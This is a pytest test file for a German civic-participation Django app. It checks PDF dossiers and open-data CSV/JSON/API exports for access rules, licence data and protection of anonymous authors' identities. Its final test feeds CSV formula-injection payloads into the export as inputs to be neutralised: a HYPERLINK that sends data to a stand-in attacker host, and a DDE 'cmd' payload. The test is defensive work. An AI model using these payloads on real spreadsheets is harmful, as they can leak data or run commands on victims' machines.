import csv
import io
import json
import re

import pytest
from django.urls import reverse
from pypdf import PdfReader

from praxisdialog.resonance.models import Dossier
from tests.resonance.factories import ResonanceSettingsFactory, resonance_settings

pytestmark = pytest.mark.django_db


def _pdf_text(response) -> str:
    content = b"".join(response.streaming_content)
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)
    return re.sub(r"\s+", " ", text)


def test_dossier_is_generated_as_pdf_and_respects_attribution(
    client, staff, user, populated, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.MEDIA_ROOT = tmp_path
    call = populated["call"]
    anonymous = populated["anonymous"]
    named = populated["named"]
    client.force_login(staff)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("resonance:dossier-generate", args=[call.slug]))
    assert response.status_code == 302
    dossier = Dossier.objects.get(call=call)
    assert dossier.status == Dossier.Status.READY

    download = client.get(reverse("resonance:dossier-download", args=[call.slug]))
    assert download.status_code == 200
    assert download["Content-Disposition"].startswith("attachment;")
    text = _pdf_text(download)
    assert call.title in text
    assert named.title in text and named.author.public_name in text
    assert "Antwort auf Frage 1?" in text
    assert anonymous.title in text and "Anonym" in text
    assert anonymous.author.public_name not in text
    assert anonymous.author.full_name not in text
    assert anonymous.author.email not in text

    # Not public unless the call allows it: then it simply does not exist for others.
    client.force_login(user)
    url = reverse("resonance:dossier-download", args=[call.slug])
    assert client.get(url).status_code == 404
    ResonanceSettingsFactory(call=call, public_dossier=True)
    assert client.get(url).status_code == 200


def test_open_data_is_private_unless_the_call_allows(client, user, staff, populated):
    call = populated["call"]
    urls = [
        reverse("resonance:open-data-csv", args=[call.slug]),
        reverse("resonance:open-data-json", args=[call.slug]),
        f"/api/v1/calls/{call.slug}/open-data",
    ]
    client.force_login(user)
    assert [client.get(url).status_code for url in urls] == [404, 404, 404]
    client.force_login(staff)
    assert [client.get(url).status_code for url in urls] == [200, 200, 200]
    ResonanceSettingsFactory(call=call, public_open_data=True)
    client.logout()
    assert [client.get(url).status_code for url in urls] == [200, 200, 200]


def test_csv_and_json_hold_what_the_pages_show(client, populated):
    call = populated["call"]
    ResonanceSettingsFactory(call=call, public_open_data=True)
    published = populated["published"]
    anonymous = populated["anonymous"]

    response = client.get(reverse("resonance:open-data-csv", args=[call.slug]))
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert len(rows) == len(published)
    by_id = {int(row["ID"]): row for row in rows}
    assert set(by_id) == {c.pk for c in published}

    document = client.get(reverse("resonance:open-data-json", args=[call.slug])).json()
    assert document["licence"]["id"] == "CC-BY-4.0"
    assert document["licence"]["url"] == "https://creativecommons.org/licenses/by/4.0/"
    assert document["count"] == len(published)
    records = {item["id"]: item for item in document["contributions"]}

    for contribution in published:
        page = client.get(contribution.get_absolute_url()).content.decode()
        row, record = by_id[contribution.pk], records[contribution.pk]
        assert row["Titel"] == record["title"] == contribution.title
        assert row["Veröffentlicht als"] == record["author"]
        assert record["author"] in page
        assert record["role"] in page and record["setting"] in page
        assert row["Frage 1?"] == record["answers"][0]["text"] == "Antwort auf Frage 1?"
        assert record["answers"][0]["text"] in page
        assert row["Lizenz"] == "CC-BY-4.0"
        assert record["url"].endswith(contribution.get_absolute_url())
    assert records[anonymous.pk]["author"] == "Anonym"
    # No e-mail address and no anonymous author's name anywhere.
    for contribution in published:
        assert contribution.author.email not in body
        assert contribution.author.email not in json.dumps(document)
    assert anonymous.author.public_name not in body
    assert anonymous.author.public_name not in json.dumps(document)


def test_api_open_data_is_paginated_and_the_same(client, populated):
    call = populated["call"]
    ResonanceSettingsFactory(call=call, public_open_data=True)
    answer = client.get(f"/api/v1/calls/{call.slug}/open-data?page=1").json()
    assert answer["count"] == 5 and len(answer["contributions"]) == 5
    assert answer["licence"]["id"] == "CC-BY-4.0"
    assert client.get(f"/api/v1/calls/{call.slug}/open-data?page=0").status_code == 422
    assert client.get("/api/v1/calls/missing/open-data").status_code == 404


def test_api_resonance_public_summary_and_staff_details(client, user, staff, populated):
    call = populated["call"]
    url = f"/api/v1/calls/{call.slug}/resonance"
    client.force_login(staff)
    full = client.get(url).json()
    assert full["totals"]["contributions"] == 5
    assert "thresholds" in full and "reached" in full and full["grid"]
    client.force_login(user)
    assert client.get(url).status_code == 404
    resonance_settings(call, public_summary=True)
    public = client.get(url).json()
    assert public["totals"] == full["totals"]
    assert "thresholds" not in public and "grid" not in public


def test_open_data_csv_defuses_formulas_that_authors_typed(client, call):
    """Formula injection: text an author typed must reach a spreadsheet as text."""
    from praxisdialog.contributions.models import Answer, Attribution
    from tests.accounts.factories import VerifiedUserFactory
    from tests.contributions.factories import ContributionFactory

    ResonanceSettingsFactory(call=call, public_open_data=True)
    author = VerifiedUserFactory(display_name="@SUM(1+1)")
    contribution = ContributionFactory(
        call=call,
        author=author,
        attribution=Attribution.PSEUDONYM,
        title='=HYPERLINK("http://angreifer.example/?"&A1;"Klick")',
    )
    answers = list(Answer.objects.filter(contribution=contribution).order_by("question__position"))
    answers[0].text = "+1+cmd|' /C calc'!A0"
    answers[0].save()
    answers[1].text = "\t=1+1"
    answers[1].save()
    answers[2].text = "-2+3"
    answers[2].save()

    response = client.get(reverse("resonance:open-data-csv", args=[call.slug]))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = rows[1]
    assert cells[1] == "'" + contribution.title
    assert cells[2] == "'@SUM(1+1)"
    assert "'+1+cmd|' /C calc'!A0" in cells
    assert "'\t=1+1" in cells
    assert "'-2+3" in cells
    # Not one cell of the file starts with something a spreadsheet would run.
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t")]
